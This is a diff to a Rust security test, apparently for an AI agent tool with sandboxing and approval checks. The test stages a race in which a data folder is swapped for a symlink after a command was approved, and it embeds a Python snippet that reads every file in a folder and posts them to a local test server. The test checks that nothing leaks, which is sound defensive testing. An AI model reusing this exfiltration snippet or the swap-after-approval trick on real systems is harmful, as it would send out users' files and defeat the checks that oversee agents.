@@ -6,7 +6,7 @@ use std::path::Path;
 
 use serde_json::json;
 
-use crate::attacks::obedient::{Attack, MARK, Planned, page};
+use crate::attacks::obedient::{Attack, Planned, page};
 
 /// Sees the diary, so the other one waits until it has ended.
 const CONVERT: &str = "\
@@ -26,8 +26,8 @@ said = ' '.join(open(name).read() for name in sorted(os.listdir('.')))
 print('SENT', urllib.request.urlopen('http://localhost:PORT/', data=said.encode(), timeout=10).status)
 ";
 
-/// What is left after both were called in one reply, and this was done to the folder while the first one ran; none where programs cannot
-/// be confined.
+/// What is left after two chats had called one each, and this was done to the folder while the second one waited for the first; none where
+/// programs cannot be confined.
 async fn ran(meanwhile: impl FnOnce(&Path, &Path)) -> Option<Attack> {
     if crate::programs::no_sandbox() {
         return None;
@@ -38,12 +38,8 @@ async fn ran(meanwhile: impl FnOnce(&Path, &Path)) -> Option<Attack> {
     std::fs::create_dir_all(repository.join("data")).unwrap();
     std::fs::create_dir(&downloads).unwrap();
     let folder = repository.display().to_string();
-    let both = vec![
-        ("exec", json!({ "command": format!("python3 {folder}/convert.py diary.md"), "working_dir": "." })),
-        sync(&folder),
-    ];
-    // The owner types the mark, so both calls are made at once, in a turn that has read nothing of a stranger's.
-    let mut attack = Attack::new(|_| Vec::new(), |_| both, |_| page("thanks")).await;
+    let convert = ("exec", json!({ "command": format!("python3 {folder}/convert.py diary.md"), "working_dir": "." }));
+    let mut attack = Attack::new(|_| Vec::new(), |_| Vec::new(), |_| page("thanks")).await;
     attack.world = attack.world.without_rights();
     let port = attack.web.url.rsplit(':').next().unwrap();
     let settings = format!(
@@ -68,15 +64,20 @@ async fn ran(meanwhile: impl FnOnce(&Path, &Path)) -> Option<Attack> {
         drafts["drafts"][0]["destination"]
     );
     attack.world.write("limpid.toml", &format!("{settings}{rule}"));
-    let exchange = async {
-        // When the first one runs, both were judged.
+    attack.then(vec![convert]);
+    let sends = async {
         until_locked(&repository.join("lock")).await;
+        attack.then(vec![sync(&folder)]);
+        attack.world.done(&["chat", "-c", "new", "send the data"]).await
+    };
+    let exchange = async {
+        until_locked(&repository.join("lock")).await;
+        // Whoever waits for programs of the other kind holds this.
+        until_locked(&limpid_config::Home::new(attack.world.home.path()).next_kind_lock()).await;
         meanwhile(&repository.join("data"), &downloads);
         std::fs::write(repository.join("go"), "").unwrap();
     };
-    let said = format!("{MARK}: convert my diary and send the data");
-    let arguments = ["chat", "-c", "new", &said];
-    tokio::join!(attack.world.done(&arguments), exchange);
+    tokio::join!(attack.world.done(&["chat", "-c", "new", "convert my diary"]), sends, exchange);
     Some(attack)
 }
 
@@ -96,9 +97,6 @@ async fn until_locked(file: &Path) {
     panic!("no program held the lock within half a minute");
 }
 
-/// How often both calls are made until the one that is attacked is the one that waits.
-const TRIES: u32 = 5;
-
 // SEC-058 SEC-078 SEC-100
 #[tokio::test]
 async fn what_waits_does_not_run_in_a_folder_that_it_was_not_judged_for() {
@@ -106,19 +104,10 @@ async fn what_waits_does_not_run_in_a_folder_that_it_was_not_judged_for() {
         std::fs::remove_dir_all(data).unwrap();
         std::os::unix::fs::symlink(downloads, data).unwrap();
     };
-    for _ in 0..TRIES {
-        let Some(attack) = ran(links).await else { return };
-        let newest = attack.newest();
-        assert!(newest.contains("converted"), "{newest}");
-        let sent = attack.web.bodies();
-        assert!(!sent.iter().any(|body| body.contains("4712")), "{sent:?}");
-        if newest.contains("after the call was checked; call it again") {
-            return;
-        }
-        // It was the first of the two, and ran before.
-        assert_eq!(sent, ["a readme"], "{newest}");
-    }
-    panic!("it never was the one that waits");
+    let Some(attack) = ran(links).await else { return };
+    assert_eq!(attack.web.bodies(), [""; 0]);
+    let sent = attack.sent();
+    assert!(sent.contains("converted") && sent.contains("after the call was checked; call it again"), "{sent}");
 }
 
 mod control {
